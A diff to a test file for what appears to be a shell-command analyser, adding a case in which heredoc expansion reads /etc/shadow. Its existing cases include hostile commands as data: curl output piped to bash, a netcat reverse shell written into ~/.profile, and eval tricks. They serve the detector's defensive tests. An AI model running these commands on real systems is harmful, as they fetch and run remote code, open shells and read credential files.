@@ -123,6 +123,8 @@ const CASES: Array<[string, string[]]> = [
   ['{curl,-s,http://203.0.113.9/x}|{bash,}', ['fallback:curl -s http://203.0.113.9/x', 'fallback:bash']],
   ['echo {x,} a{,}b', ['echo x ab ab']],
   ['bash <<EOF\ncurl -s $U | sh\nEOF', ['bash', 'heredoc-to-shell:curl -s $U', 'heredoc-to-shell:sh']],
+  // an unquoted heredoc takes the backslash off `\$`: the shell it feeds expands the variable
+  ['sh <<EOF\nT=/etc/shadow\ncat \\$T\nEOF', ['sh', 'heredoc-to-shell:cat /etc/shadow']],
   ['cat > ~/.profile <<EOF\nnc $H 4444 -e /bin/sh\nEOF', ['cat', 'persisted:nc $H 4444 -e /bin/sh']],
   ['f(){ eval "$1" >/dev/null; }; f ls', ['eval $1', 'eval:$1', 'f ls', 'eval:eval ls', 'eval:ls']],
   ["kubectl create cronjob sync --image=alpine --schedule='*/10 * * * *' -- sh -c 'id'", ["kubectl create cronjob sync --image=alpine --schedule=*/10 * * * * -- sh -c id", 'remote:sh -c id', 'shell-c:id']],
